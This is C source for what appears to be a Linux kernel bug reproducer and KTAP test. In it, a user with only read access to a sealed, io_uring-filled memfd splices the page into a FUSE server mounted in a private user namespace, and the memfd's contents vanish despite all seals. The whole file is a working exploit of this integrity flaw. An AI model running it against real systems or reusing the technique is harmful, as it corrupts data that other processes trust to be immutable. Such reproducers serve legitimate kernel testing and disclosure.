/*
 * Who may read a memfd takes a page out of it, whatever its seals: splice to a pipe, and with SPLICE_F_MOVE to a FUSE that the
 * reader has mounted in a user namespace of his own. The file has a hole there afterwards.
 *
 *   gcc -Wall -Wextra -static -o reader-steals-pages reader-steals-pages.c && ./reader-steals-pages
 *
 * Run as root, who becomes user 1001 for the reader. The page has to be clean; io_uring leaves it so (uring-read-is-lost.c).
 * Prints KTAP; exits with 0 if the page is gone, with 1 if not, with 4 without io_uring, FUSE or user namespaces.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <grp.h>
#include <linux/io_uring.h>
#include <sched.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/uio.h>
#include <sys/utsname.h>
#include <sys/wait.h>
#include <unistd.h>

#define PAGE 4096
#define TEXT "sealed to the end of time"
#define ALL_SEALS (F_SEAL_SEAL | F_SEAL_SHRINK | F_SEAL_GROW | F_SEAL_WRITE | F_SEAL_FUTURE_WRITE)
#define DEVICE "/tmp/fuse-for-all" /* as udev makes /dev/fuse */

/* linux/fuse.h */
enum { FUSE_GETATTR = 3, FUSE_OPEN = 14, FUSE_READ = 15, FUSE_INIT = 26 };
struct in_header {
	uint32_t len, opcode;
	uint64_t unique, nodeid;
	uint32_t uid, gid, pid, rest;
};
struct out_header {
	uint32_t len;
	int32_t error;
	uint64_t unique;
};
struct init_out {
	uint32_t major, minor, max_readahead, flags;
	uint16_t max_background, congestion_threshold;
	uint32_t max_write, time_gran;
	uint16_t max_pages, map_alignment;
	uint32_t flags2, max_stack_depth, unused[6];
};
struct attr_out {
	uint64_t valid;
	uint32_t valid_nsec, dummy;
	uint64_t ino, size, blocks, atime, mtime, ctime;
	uint32_t nsec[3], mode, nlink, uid, gid, rdev, blksize, flags;
};
struct open_out {
	uint64_t fh;
	uint32_t open_flags;
	int32_t backing_id;
};

static int failed;

static void check(int holds, const char *text)
{
	static int number;

	failed |= !holds;
	printf("%sok %d %s\n", holds ? "" : "not ", ++number, text);
}

static void give_up(const char *what)
{
	printf("# %s: %s\n", what, strerror(errno));
	exit(4);
}

/* One page with TEXT, that nobody but io_uring has written to. */
static int filled_by_io_uring(void)
{
	struct io_uring_params params = { 0 };
	int ring = (int)syscall(SYS_io_uring_setup, 1, &params), fd = memfd_create("region", MFD_ALLOW_SEALING), ends[2];
	struct io_uring_sqe *entry;
	struct iovec buffer;
	volatile char *map;
	char *queue;

	if (ring < 0 || fd < 0 || ftruncate(fd, PAGE) || socketpair(AF_UNIX, SOCK_SEQPACKET, 0, ends))
		give_up("io_uring");
	queue = mmap(NULL, PAGE, PROT_READ | PROT_WRITE, MAP_SHARED, ring, IORING_OFF_SQ_RING);
	entry = mmap(NULL, PAGE, PROT_READ | PROT_WRITE, MAP_SHARED, ring, IORING_OFF_SQES);
	map = mmap(NULL, PAGE, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
	if (queue == MAP_FAILED || entry == MAP_FAILED || map == MAP_FAILED)
		give_up("mmap");
	(void)map[0]; /* the page is in, and clean */
	buffer = (struct iovec){ (void *)map, PAGE };
	if (syscall(SYS_io_uring_register, ring, IORING_REGISTER_BUFFERS, &buffer, 1) ||
	    send(ends[1], TEXT, sizeof(TEXT), 0) != sizeof(TEXT))
		give_up("IORING_REGISTER_BUFFERS");
	*entry = (struct io_uring_sqe){
		.opcode = IORING_OP_READ_FIXED, .fd = ends[0], .addr = (unsigned long)map, .len = sizeof(TEXT)
	};
	*(unsigned int *)(queue + params.sq_off.array) = 0;
	__atomic_store_n((unsigned int *)(queue + params.sq_off.tail), 1, __ATOMIC_RELEASE);
	syscall(SYS_io_uring_enter, ring, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0);
	syscall(SYS_io_uring_register, ring, IORING_UNREGISTER_BUFFERS, NULL, 0);
	munmap((void *)map, PAGE);
	close(ring);
	usleep(200000); /* until the pins are gone */
	return fd;
}

static void answer(int fuse, uint64_t unique, int error, const void *body, size_t size)
{
	char message[256];
	struct out_header header = { sizeof(header) + size, error, unique };

	memcpy(message, &header, sizeof(header));
	if (size)
		memcpy(message + sizeof(header), body, size);
	if (write(fuse, message, header.len) < 0 && errno != ENOENT)
		give_up("/dev/fuse");
}

/* Answers a read with the page itself. */
static void answer_by_splice(int fuse, uint64_t unique, int memfd)
{
	struct out_header header = { sizeof(header) + PAGE, 0, unique };
	long in, out;
	off_t at = 0;
	int ends[2];

	if (pipe(ends) || write(ends[1], &header, sizeof(header)) != sizeof(header))
		give_up("pipe");
	in = splice(memfd, &at, ends[1], NULL, PAGE, 0);
	out = splice(ends[0], NULL, fuse, NULL, header.len, SPLICE_F_MOVE);
	printf("# user 1001: splice(O_RDONLY, pipe) = %ld, splice(pipe, /dev/fuse, SPLICE_F_MOVE) = %ld\n", in, out);
	close(ends[0]);
	close(ends[1]);
}

static void serve(int fuse, int memfd)
{
	static char request[1 << 20];
	struct in_header *in = (struct in_header *)request;
	struct init_out init = { .major = 7, .minor = 31, .max_write = PAGE, .time_gran = 1 };
	struct attr_out attr = { .ino = 1, .size = PAGE, .mode = S_IFREG | 0666, .nlink = 1 };
	struct open_out open = { 0 };

	while (read(fuse, request, sizeof(request)) > 0) {
		switch (in->opcode) {
		case FUSE_INIT:
			answer(fuse, in->unique, 0, &init, sizeof(init));
			break;
		case FUSE_GETATTR:
			answer(fuse, in->unique, 0, &attr, sizeof(attr));
			break;
		case FUSE_OPEN:
			answer(fuse, in->unique, 0, &open, sizeof(open));
			break;
		case FUSE_READ:
			answer_by_splice(fuse, in->unique, memfd);
			break;
		default:
			answer(fuse, in->unique, -ENOSYS, NULL, 0);
		}
	}
}

static void put(const char *path, const char *text)
{
	int fd = open(path, O_WRONLY);

	if (fd < 0 || write(fd, text, strlen(text)) < 0)
		give_up(path);
	close(fd);
}

/* User 1001, who is root in a namespace of his own. */
static void become_reader(void)
{
	if (setgroups(0, NULL) || setgid(1001) || setuid(1001) || prctl(PR_SET_DUMPABLE, 1))
		give_up("user 1001");
	if (unshare(CLONE_NEWUSER | CLONE_NEWNS))
		give_up("user namespace");
	put("/proc/self/setgroups", "deny");
	put("/proc/self/uid_map", "0 1001 1");
	put("/proc/self/gid_map", "0 1001 1");
	if (mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL))
		give_up("mount");
}

static int steal(int memfd)
{
	char path[] = "/tmp/reader-steals-XXXXXX", options[128], got[PAGE] = "";
	int fuse, file;
	pid_t server;

	become_reader();
	fuse = open(DEVICE, O_RDWR);
	file = mkstemp(path);
	if (fuse < 0 || file < 0)
		give_up("/dev/fuse");
	close(file);
	snprintf(options, sizeof(options), "fd=%d,rootmode=100666,user_id=0,group_id=0", fuse);
	if (mount("selkie", path, "fuse", MS_NOSUID | MS_NODEV, options)) {
		unlink(path);
		give_up("mount of FUSE");
	}
	server = fork();
	if (!server) {
		serve(fuse, memfd);
		_exit(0);
	}
	file = open(path, O_RDONLY);
	if (file < 0 || read(file, got, PAGE) != PAGE)
		give_up("read of the file on FUSE");
	printf("# user 1001: the file on FUSE has \"%.25s\"\n", got);
	close(file);
	umount2(path, MNT_DETACH);
	unlink(path);
	close(fuse);
	kill(server, SIGKILL);
	waitpid(server, NULL, 0);
	return 0;
}

static int has(int fd, const char *text)
{
	char got[sizeof(TEXT)] = "?";

	return pread(fd, got, sizeof(got), 0) == sizeof(got) && !strcmp(got, text);
}

static long blocks_of(int fd)
{
	struct stat stat;

	return fstat(fd, &stat) ? -1 : (long)stat.st_blocks;
}

int main(void)
{
	struct utsname name;
	int fd, reader, status;
	char path[64];
	pid_t child;

	setvbuf(stdout, NULL, _IONBF, 0);
	uname(&name);
	printf("KTAP version 1\n# %s\n", name.release);
	if (geteuid() != 0) {
		printf("# needs root, who has a reader of another user\n");
		return 4;
	}
	fd = filled_by_io_uring();
	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	if (fchmod(fd, 0444))
		give_up("fchmod");
	reader = open(path, O_RDONLY);
	unlink(DEVICE);
	if (mknod(DEVICE, S_IFCHR | 0666, makedev(10, 229)) || chmod(DEVICE, 0666))
		give_up(DEVICE);
	check(fcntl(fd, F_ADD_SEALS, ALL_SEALS) == 0, "root's memfd, mode 0444, has every seal");
	check(has(fd, TEXT) && blocks_of(fd) == 8, "and 4096 bytes with a text");
	child = fork();
	if (!child) {
		close(fd);
		_exit(steal(reader));
	}
	waitpid(child, &status, 0);
	unlink(DEVICE);
	if (!WIFEXITED(status) || WEXITSTATUS(status))
		return 4;
	check(fcntl(fd, F_GET_SEALS) == ALL_SEALS, "user 1001, O_RDONLY, has spliced it to a FUSE of his own; every seal is there");
	check(has(fd, ""), "the text is not: the memfd has zeroes");
	check(blocks_of(fd) == 0, "it has no page, st_blocks is 0");
	printf("1..5\n");
	return failed;
}
